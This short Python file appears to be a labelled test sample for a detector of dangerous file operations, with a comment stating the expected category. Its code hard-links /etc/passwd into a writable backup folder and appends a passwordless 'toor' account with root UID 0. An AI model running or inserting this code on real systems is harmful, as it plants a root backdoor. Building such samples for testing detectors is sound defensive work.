# expect: files; hard-links /etc/passwd into a writable backup folder (os.link) and rewrites it through the link
import os

os.makedirs("backup", exist_ok=True)
src = "/etc/passwd"
dst = os.path.join("backup", "passwd.bak")
os.link(src, dst)
with open(dst, "a") as fh:
    fh.write("toor::0:0::/root:/bin/sh\n")
